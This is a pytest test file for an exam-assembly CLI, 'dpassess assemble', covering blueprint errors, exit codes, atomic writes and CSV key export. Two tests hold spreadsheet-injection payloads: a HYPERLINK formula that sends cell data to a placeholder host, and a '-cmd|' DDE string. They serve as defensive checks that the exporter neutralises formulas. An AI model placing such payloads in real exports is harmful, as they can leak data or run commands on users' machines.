"""`dpassess assemble` as a user runs it: outputs, exit codes, errors naming the blueprint line."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from conftest import ROOT, SEED_BANK, dpassess, files
from dpassess.model.schemas import json_schema

BLUEPRINT = ROOT / "blueprints" / "data-parallelism.yaml"


def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """`dpassess assemble ARGS` in this process (conftest.dpassess)."""
    return dpassess("assemble", *args, cwd=ROOT, env={**os.environ, **(env or {})})


def process(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """`dpassess assemble ARGS` in a new interpreter (for what differs between processes)."""
    return subprocess.run(
        [sys.executable, "-m", "dpassess", "assemble", *args], cwd=ROOT, capture_output=True,
        text=True, timeout=300, env={**os.environ, **env},
    )




def test_published_blueprint_schema_is_fresh_and_validates_the_seed_blueprint():
    import jsonschema
    import yaml

    published = json.loads((ROOT / "docs/schema/blueprint.schema.json").read_text())
    assert published == json_schema("blueprint"), (
        "regenerate: dpassess schema blueprint > docs/schema/blueprint.schema.json")
    jsonschema.Draft202012Validator(published).validate(yaml.safe_load(BLUEPRINT.read_text()))


def test_assemble_writes_every_file_and_is_byte_identical_across_hash_seeds(tmp_path):
    outs = []
    for n, hash_seed in enumerate(("1", "2")):
        out = tmp_path / f"out{n}"
        r = process(str(BLUEPRINT), "--out", str(out), env={"PYTHONHASHSEED": hash_seed})
        assert r.returncode == 0, r.stderr
        assert "Traceback" not in r.stderr
        assert "keys at ABCD" in r.stdout and "solver: feasible" in r.stdout
        outs.append(files(out))
    assert outs[0] == outs[1]
    names = set(outs[0])
    for form in ("dp-quiz-a", "dp-quiz-b"):
        for suffix in ("key.csv", "key.json", "en.html", "id.html", "en.pdf", "id.pdf",
                       "key-en.html", "key-id.pdf", "qti21/{f}-en.zip",
                       "moodle/{f}-multi.xml", "gift/{f}-id.txt"):
            name = f"{form}/{suffix.format(f=form)}" if "/" in suffix else f"{form}/{form}-{suffix}"
            assert name in names, name
    assert {"summary.txt", "summary.json"} <= names
    csv = outs[0]["dp-quiz-a/dp-quiz-a-key.csv"].decode().splitlines()
    assert csv[0] == "form,position,item,key,key_ids,type,points,answer" and len(csv) == 9
    assert csv[1].startswith("dp-quiz-a,1,dp-")


def test_seed_and_time_limit_flags(tmp_path):
    r = run(str(BLUEPRINT), "--seed", "5", "--time-limit", "2", "--out", str(tmp_path / "o"))
    assert r.returncode == 0, r.stderr
    assert json.loads((tmp_path / "o/summary.json").read_text())["seed"] == 5


def blueprint(tmp_path: Path, body: str) -> Path:
    bank = os.path.relpath(SEED_BANK, tmp_path)
    path = tmp_path / "bp.yaml"
    path.write_text(f"schema: 1\nid: exam\nbank: {bank}\n{body}", encoding="utf-8")
    return path


BAD = [
    ("forms: 2\nitems: 3\ncells:\n  - topic: data-parallelism/comms\n    count: 1\n",
     "bp.yaml:7:5: cells[0].topic: no item has topic 'data-parallelism/comms' or a topic below "
     "it (did you mean 'data-parallelism/communication'?)"),
    ("forms: 2\nitems: 3\ncells:\n  - tags: [ncl]\n    count: 1\n",
     "bp.yaml:7:12: cells[0].tags[0]: no item has tag 'ncl' (did you mean 'nccl'?)"),
    ("forms: 2\nitems: 3\nanchors: [dp-gpu-hold]\n",
     "bp.yaml:6:11: anchors[0]: unknown item 'dp-gpu-hold' (did you mean 'dp-gpu-holds'?)"),
    ("forms: 2\nitems: 3\nenemies: [[dp-gpu-holds, nope]]\n",
     "bp.yaml:6:26: enemies[0][1]: unknown item 'nope'"),
    ("forms: 2\nitems: 3\ncells:\n  - topic: data-parallelism\n    count: -1\n",
     "bp.yaml:8:5: cells[0].count: a count cannot be negative (got -1)"),
    ("forms: 2\nitems: -3\n", "bp.yaml:5:1: items: a count cannot be negative (got -3)"),
    ("forms: 3\nitems: 4\nmax_overlap: 0\n",
     "bp.yaml:4:1: forms: more forms than the bank can fill: it has 8 usable items; 3 form(s) × "
     "4 items with no item shared need at least 12"),
    ("forms: 2\nitems: 3\nshuffle: true\n", "bp.yaml:6:1: shuffle: unknown field (did you mean 'shuffle_options'?)"),
    ("forms: 2\nitems: 3\nbank2: x\n", "bp.yaml:6:1: bank2: unknown field (did you mean 'bank'?)"),
]


def test_a_new_banks_draft_items_are_named_as_the_reason_no_form_fills(tmp_path):
    """`dpassess init` writes a draft item and a blueprint takes reviewed items: a new user's
    first `assemble` says that the drafts are why nothing is usable, and what to change."""
    assert dpassess("init", str(tmp_path / "bank"), cwd=tmp_path).returncode == 0
    bp = tmp_path / "bp.yaml"
    bp.write_text("id: quiz\nbank: bank\nforms: 1\nitems: 1\n", encoding="utf-8")
    r = run(str(bp), "--out", str(tmp_path / "out"))
    assert r.returncode == 2, r.stderr
    assert (f"{bp}:3:1: forms: more forms than the bank can fill: it has 0 usable items; 1 "
            "form(s) × 1 items need at least 1 (1 draft item(s) left out: the blueprint's "
            "`statuses` takes reviewed items; set an item's `status: reviewed` once it is "
            "reviewed, or add its status to `statuses`)") in r.stderr, r.stderr


@pytest.mark.parametrize(("body", "message"), BAD)
def test_bad_blueprint_names_the_line_and_exits_2(tmp_path, body, message):
    r = run(str(blueprint(tmp_path, body)), "--out", str(tmp_path / "out"))
    assert r.returncode == 2, r.stderr
    assert "Traceback" not in r.stderr
    assert f"{tmp_path}/{message}" in r.stderr, r.stderr
    assert not (tmp_path / "out").exists(), "nothing is written for a bad blueprint"


def test_missing_bank_and_missing_file_exit_2(tmp_path):
    path = tmp_path / "bp.yaml"
    path.write_text("schema: 1\nid: exam\nbank: ../nowhere\nforms: 1\nitems: 1\n")
    r = run(str(path), "--out", str(tmp_path / "out"))
    assert r.returncode == 2 and f"{path}:3:1: bank: bank '../nowhere' not found" in r.stderr
    r = run(str(tmp_path / "none.yaml"), "--out", str(tmp_path / "out"))
    assert r.returncode == 2 and "no such blueprint file" in r.stderr


def test_cell_shortage_is_explained_before_search_exit_1(tmp_path):
    bp = blueprint(tmp_path, "forms: 3\nitems: 2\nmax_overlap: 0\ncells:\n"
                             "  - {topic: data-parallelism/communication, difficulty: hard, "
                             "count: 1}\n")
    r = run(str(bp), "--out", str(tmp_path / "out"))
    assert r.returncode == 1, r.stderr
    assert "Traceback" not in r.stderr
    assert ("cell data-parallelism/communication × hard: the bank has 1 item, the blueprint "
            "asks 1 per form × 3 forms with no item shared, which needs at least 3 "
            f"({bp}:8)") in r.stderr
    assert not (tmp_path / "out").exists()


def test_solver_infeasibility_names_the_conflicting_constraints_exit_1(tmp_path):
    bp = blueprint(tmp_path, "forms: 1\nitems: 8\nenemies: [[dp-gpu-holds, dp-global-batch]]\n"
                             "points: {min: 1}\n")
    r = run(str(bp), "--out", str(tmp_path / "out"))
    assert r.returncode == 1, r.stderr
    lines = r.stderr.splitlines()
    assert lines[0] == f"error: {bp}: no forms meet the blueprint (infeasible)"
    assert lines[1].startswith("no set of forms meets all of these together (dropping any one")
    assert lines[2:] == [f"  - 8 items per form ({bp}:5)",
                         "  - this pair never on one form: dp-gpu-holds × dp-global-batch "
                         f"(the blueprint's `enemies`; {bp}:6)"]


# --- all or nothing: a path in the way or a failing write leaves the output folder as it was ---


def tree(root: Path) -> dict[str, bytes | None]:
    """Every path below `root` (folders as None, files with their bytes)."""
    return {str(p.relative_to(root)): (None if p.is_dir() else p.read_bytes())
            for p in sorted(root.rglob("*"))}


@pytest.fixture(scope="module")
def assembly():
    from dpassess.assemble import assemble

    return assemble(BLUEPRINT)


@pytest.mark.parametrize(
    ("in_the_way", "message"),
    [("dp-quiz-b/dp-quiz-b-key.csv/", "dp-quiz-b/dp-quiz-b-key.csv: is a directory"),
     ("dp-quiz-b", "dp-quiz-b: not a directory")],
)
def test_a_path_in_the_way_writes_nothing_and_exits_2(tmp_path, in_the_way, message):
    """A folder where a file goes, or a file where a folder goes."""
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine\n")
    if in_the_way.endswith("/"):
        (out / in_the_way).mkdir(parents=True)
    else:
        (out / in_the_way).write_text("not a folder\n")
    before = tree(out)
    r = run(str(BLUEPRINT), "--out", str(out))
    assert r.returncode == 2, r.stderr
    assert "Traceback" not in r.stderr
    assert f"{out}/{message}" in r.stderr
    assert tree(out) == before  # no form a, no temporary files, no new folders


@pytest.mark.parametrize("fresh", [True, False])
def test_an_export_failing_midway_leaves_nothing_new(tmp_path, monkeypatch, assembly, fresh):
    """Form b's GIFT export fails after form a's files are complete: nothing is written."""
    from dpassess.assemble import write_assembly
    from dpassess.export.moodle import gift

    out = tmp_path / "out"
    if not fresh:  # an earlier run's files stay exactly as they were
        write_assembly(assembly, out)
        (out / "dp-quiz-a" / "dp-quiz-a-key.csv").write_text("edited by hand\n")
    before = tree(out) if out.exists() else None
    real = gift.FORMAT.assemble
    calls = []

    def failing(job, fragments, out):
        calls.append(job.collection.id)
        if job.collection.id == "dp-quiz-b":
            raise RuntimeError("the exporter broke")
        return real(job, fragments, out)

    monkeypatch.setattr(gift, "FORMAT", replace(gift.FORMAT, assemble=failing))
    with pytest.raises(RuntimeError, match="the exporter broke"):
        write_assembly(assembly, out)
    assert calls[0] == "dp-quiz-a"  # form a was exported by then
    if fresh:
        assert not out.exists(), sorted(out.rglob("*"))
    else:
        assert tree(out) == before


@pytest.mark.parametrize("which", ["first", "summary.json"])
def test_a_failing_rename_leaves_nothing_new(tmp_path, monkeypatch, assembly, which):
    """The first rename fails, or the summary's (after every form file is in place)."""
    from dpassess.assemble import write_assembly
    from dpassess.diagnostics import UsageError

    real = os.replace
    renamed: list[Path] = []

    def failing(src, dst):
        if which == "first" or Path(dst).name == which:
            raise PermissionError(13, "Permission denied")
        renamed.append(Path(dst))
        real(src, dst)

    monkeypatch.setattr(os, "replace", failing)
    with pytest.raises(UsageError, match="Permission denied"):
        write_assembly(assembly, tmp_path / "out")
    if which != "first":
        assert len({p.parent.parent.name for p in renamed if p.parent.name == "qti21"}) == 2
    assert not (tmp_path / "out").exists()


def test_a_normal_write_matches_the_committed_forms(tmp_path, assembly):
    from dpassess.assemble import write_assembly

    written, _ = write_assembly(assembly, tmp_path)
    assert written[-2:] == [tmp_path / "summary.json", tmp_path / "summary.txt"]  # renamed last
    assert files(tmp_path) == files(ROOT / "exports" / "forms" / "data-parallelism")


def test_stale_forms_of_an_earlier_run_are_left_with_a_warning(tmp_path):
    out = tmp_path / "out"
    r = run(str(blueprint(tmp_path, "forms: 3\nitems: 2\n")), "--out", str(out))
    assert r.returncode == 0, r.stderr
    (out / "mine").mkdir()
    r = run(str(blueprint(tmp_path, "forms: 2\nitems: 2\n")), "--out", str(out))
    assert r.returncode == 0, r.stderr
    assert [f["id"] for f in json.loads((out / "summary.json").read_text())["forms"]] == [
        "exam-a", "exam-b"]
    assert (out / "exam-c" / "exam-c-key.csv").is_file() and (out / "mine").is_dir()
    stale = [line for line in r.stderr.splitlines() if "earlier assembly" in line]
    assert stale == [f"warning: {out}/exam-c: a form of an earlier assembly (exam), not of this "
                     "one; left in place: remove it if it is no longer wanted"]


@pytest.mark.parametrize(("flag", "value", "said"), [
    ("--seed", "9223372036854775808", "a seed is between 0 and 9223372036854775807"),
    ("--seed", "-1", "a seed is between 0 and 9223372036854775807 (got -1)"),
    ("--time-limit", "inf", "a time limit is above 0 and at most 3600 seconds (got inf)"),
    ("--time-limit", "nan", "a time limit is above 0 and at most 3600 seconds"),
])
def test_seed_and_time_limit_follow_the_blueprints_rules(tmp_path, flag, value, said):
    r = run(str(ROOT / "blueprints" / "data-parallelism.yaml"), flag, value,
            "-o", str(tmp_path / "out"))
    assert r.returncode == 2
    assert said in " ".join(r.stderr.split())
    assert not (tmp_path / "out").exists()


def test_a_control_character_in_the_bank_path_is_a_blueprint_error(tmp_path):
    bp = tmp_path / "bp.yaml"
    bp.write_text('schema: 1\nid: bp\nbank: "../items\\0x"\nforms: 1\nitems: 2\n')
    r = run(str(bp), "-o", str(tmp_path / "out"))
    assert r.returncode == 2
    assert (f"{bp}:3:1: bank: a folder path cannot hold control characters (found '\\x00')"
            in r.stderr)


def test_key_csv_cells_start_no_formula_and_the_json_keeps_the_text(tmp_path):
    """A short-answer wording that a spreadsheet would evaluate (OWASP's CSV injection) is
    written with a leading quote in the CSV, read back by the csv module; the key JSON keeps it
    as written."""
    import csv as csv_mod
    import shutil

    import yaml

    shutil.copytree(ROOT / "items", tmp_path / "items")
    shutil.copytree(ROOT / "blueprints", tmp_path / "blueprints")
    formula = '=HYPERLINK("http://x/?d="&A1,"ring")'
    item = {"schema": 1, "id": "dp-formula", "type": "short_answer",
            "topic": "data-parallelism/basics", "difficulty": "easy", "status": "reviewed",
            "answers": [{"id": "ring"}], "text": {
                "id": {"stem": "Algoritme all-reduce apa yang mengirim data mengelilingi ring GPU?",
                       "answers": {"ring": [formula]}},
                "en": {"stem": "Which all-reduce algorithm sends data around a ring of GPUs?",
                       "answers": {"ring": [formula]}}}}
    (tmp_path / "items" / "data-parallelism" / "99-formula.yaml").write_text(
        yaml.safe_dump(item, allow_unicode=True), encoding="utf-8")
    blueprint = tmp_path / "blueprints" / BLUEPRINT.name
    bp = yaml.safe_load(blueprint.read_text(encoding="utf-8"))
    bp["items"], bp["points"] = 9, 9  # every item on each form, the new one too
    blueprint.write_text(yaml.safe_dump(bp), encoding="utf-8")
    out = tmp_path / "out"
    r = run(str(blueprint), "--out", str(out))
    assert r.returncode == 0, r.stderr
    rows = list(csv_mod.DictReader(io.StringIO(
        (out / "dp-quiz-a" / "dp-quiz-a-key.csv").read_text(encoding="utf-8"))))
    row = next(r for r in rows if r["item"] == "dp-formula")
    assert row["answer"] == "'" + formula
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values())
    key = json.loads((out / "dp-quiz-a" / "dp-quiz-a-key.json").read_text(encoding="utf-8"))
    entry = next(i for i in key["items"] if i["item"] == "dp-formula")
    assert formula in json.dumps(entry, ensure_ascii=False).replace('\\"', '"')


def test_csv_cells_keep_plain_numbers_and_quote_the_rest():
    from dpassess.assemble.output import csv_cell

    assert csv_cell("-1.5") == "-1.5" and csv_cell("3") == "3" and csv_cell(2) == "2"
    for cell in ("-1.5 ± 0.1", "-1+1", "+1", "=1", "@x", "\tx", "\rx", "-cmd|' /C calc'!A0"):
        assert csv_cell(cell) == "'" + cell
    assert csv_cell("a=b") == "a=b"
